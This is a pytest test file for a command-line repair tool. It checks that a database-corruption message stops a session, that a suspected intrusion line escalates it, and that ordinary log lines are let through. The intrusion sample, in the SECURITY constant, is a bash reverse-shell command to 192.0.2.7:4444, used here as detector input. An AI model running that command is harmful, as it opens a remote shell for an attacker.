"""One line in the middle of a session, through the command line: it halts everything except collecting."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from sickbay.cli.exits import CommandError, ExitCode
from tests.integration.repair.world import state_of
from tests.unit.sickbay.repair.written import FILES, MAKE, written

CORRUPTION = "sqlite3.DatabaseError: database disk image is malformed"
SECURITY = "CMD (bash -i >& /dev/tcp/192.0.2.7/4444 0>&1)"
LINES = [(CORRUPTION, "stopped", "stored data may be damaged"), (SECURITY, "escalated", "somebody may have broken in")]


@pytest.fixture(autouse=True)
def project(tmp_path: Path, sessions: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project with a guide whose look prints what the file ``said`` holds."""
    folder = tmp_path / "project"
    guides = folder / "docs" / "troubleshooting"
    guides.mkdir(parents=True)
    (guides / "conf-missing.md").write_text(
        written(MAKE, verify="cat said app.conf", expect="all is well").replace(
            "```sh probe=lock timeout=5\ntest -e lock", "```sh probe=lock timeout=5\ncat said lock"
        )
    )
    for name, content in {**FILES, "said": "all is well\n"}.items():
        (folder / name).write_text(content)
    monkeypatch.chdir(folder)
    return folder


def _shown(told: Any) -> Any:
    return json.loads(told("session", "show", "last", "--format", "json")[1])


@pytest.mark.parametrize(("line", "status", "why"), LINES)
def test_a_line_that_is_noted_halts_everything_except_collecting(told: Any, line: str, status: str, why: str) -> None:
    told("session", "start", "web", "--environment", "development")
    assert told("session", "note", "last", "ok", "the disk is half empty", "--next")[0] == ExitCode.HEALTHY
    code, _ = told("session", "note", "last", "fail", f"its log says: {line}", "--next")
    assert code == ExitCode.PROBLEMS
    shown = _shown(told)
    assert (shown["status"], shown["stage"]) == (status, "health")
    assert why in shown["reason"]

    with pytest.raises(CommandError, match="Refused"):
        told("repair", "conf-missing", "--session", "last")
    with pytest.raises(CommandError, match="Refused"):
        told("session", "note", "last", "ok", "go on", "--next")
    assert told("session", "note", "last", "ok", "the file was copied")[0] == ExitCode.HEALTHY
    assert told("session", "verify", "last")[0] == ExitCode.HEALTHY


@pytest.mark.parametrize(("line", "status", "why"), LINES)
def test_a_line_that_a_look_prints_ends_a_repair_before_anything_is_approved(
    told: Any, project: Path, line: str, status: str, why: str
) -> None:
    (project / "said").write_text(f"all is well\n{line}\n")
    before = state_of(project)
    with pytest.raises(CommandError, match=why):
        told("repair", "conf-missing", "--environment", "development", "--apply")
    assert state_of(project) == before
    shown = _shown(told)
    assert shown["status"] == status
    assert why in shown["reason"]
    assert told("session", "verify", "last")[0] == ExitCode.HEALTHY


@pytest.mark.parametrize(("line", "status", "why"), LINES)
def test_a_line_of_the_log_that_is_given_ends_it_too(
    told: Any, tmp_path: Path, line: str, status: str, why: str
) -> None:
    (tmp_path / "log").write_text(f"begin\n{line}\nend\n")
    told("session", "start", "web", "--environment", "development")
    with pytest.raises(CommandError, match=why):
        told("repair", "conf-missing", "--session", "last", "--log", str(tmp_path / "log"))
    assert _shown(told)["status"] == status


def test_other_lines_stop_nothing(told: Any) -> None:
    told("session", "start", "web", "--environment", "development")
    for line in ("fsck: file is clean", "timeout 1 bash -c '</dev/tcp/db/5432'", "Bad checksums:  0"):
        assert told("session", "note", "last", "ok", line, "--next")[0] == ExitCode.HEALTHY
    assert _shown(told)["status"] == "open"
